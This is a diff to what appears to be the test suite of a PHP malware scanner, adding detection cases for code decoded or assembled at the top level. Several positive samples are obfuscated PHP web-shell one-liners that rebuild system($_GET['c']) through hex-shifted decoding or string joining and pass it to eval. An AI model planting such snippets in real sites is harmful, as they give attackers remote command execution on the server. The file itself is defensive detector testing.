@@ -61,6 +61,17 @@ POSITIVES: dict[str, str] = {
         "$p = proc_open('/bin/sh', $spec, $pipes);\nfwrite($pipes[0], $cmd . \"\\n\");\n"
         "echo stream_get_contents($pipes[1]);\n"
     ),
+    # a decoder written as a plain top-level loop: replayed up to the sink
+    "toplevel-loop-decoder": (
+        "<?php\nfor ($i = 0, $e = '" + "".join(f"{ord(c) + 1:02x}" for c in "system($_GET['c']);")
+        + "', $d = ''; $i < strlen($e); $i += 2) {\n"
+        "  $d .= chr(hexdec(substr($e, $i, 2)) - 1);\n}\neval($d);\n"
+    ),
+    # array elements assigned one by one, then joined into code
+    "toplevel-element-assembly": (
+        "<?php\n$p['a'] = 'sys'; $p['b'] = 'tem($_G'; $q = 'ET[1]);';\n"
+        "$c = $p['a'] . $p['b'] . $q;\n@eval($c);\n"
+    ),
 }
 
 BENIGN: dict[str, str] = {
@@ -83,6 +94,20 @@ BENIGN: dict[str, str] = {
     "regex-with-fixed-delimiters": (
         "<?php\n$q = $_GET['q'];\n"
         "echo preg_replace('~(?<=[?&])(' . $q . ')=[^&]*~i', '', $_SERVER['REQUEST_URI']);\n"
+    ),
+    # code generated from request data at the top level: not a constant, nothing replayed
+    "toplevel-generated-from-request": (
+        "<?php\n$code = '';\nforeach ($_POST['fields'] as $f) { $code .= '$v[] = 1;'; }\n"
+        "eval($code);\n"
+    ),
+    "toplevel-constant-config": (
+        "<?php\n$src = '';\nfor ($i = 0; $i < 3; $i++) { $src .= '$cfg[' . $i . '] = ' . $i . ';'; }\n"
+        "eval($src);\necho $cfg[2];\n"
+    ),
+    "regex-interpolated-fixed-delimiters": (
+        "<?php\nsession_start();\n$q = $_SESSION['param'];\n"
+        "$u = preg_replace(\"~(?<=[?&])($q\" . (defined('SID') ? '' : '|sid') . \")=[^&]*~\", '', "
+        "$_SERVER['REQUEST_URI']);\necho $u;\n"
     ),
     "proc-open-fixed-tool": (
         "<?php\n$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'));\n"
@@ -194,3 +219,19 @@ def test_nul_bytes_in_a_binary_literal_do_not_blind_the_parser() -> None:
         b"<?php $z = '\x00ZXZhbCgkX0dFVFsxXSk7'; eval(base64_decode(substr($z, 1)));"
     )
     assert folded.paths and folded.paths[0].layer == 1
+
+
+def test_toplevel_replay_keeps_a_prefix_when_the_budget_runs_out() -> None:
+    payload = "system($_GET['c']);" + "/* pad */" * 6000
+    hexed = "".join(f"{ord(c) + 1:02x}" for c in payload)
+    sample = (
+        f"<?php\n$e = '{hexed}'; $d = '';\n"
+        "for ($i = 0; $i < strlen($e); $i += 2) { $d .= chr(hexdec(substr($e, $i, 2)) - 1); }\n"
+        "eval($d);\n"
+    )
+    start = time.monotonic()
+    analysis = analyse_php(sample.encode())
+    assert time.monotonic() - start < MAX_SECONDS * 8
+    executed = [layer for layer in analysis.layers if layer.executed]
+    assert executed and executed[0].preview.startswith("system(")
+    assert executed[0].size < len(payload)
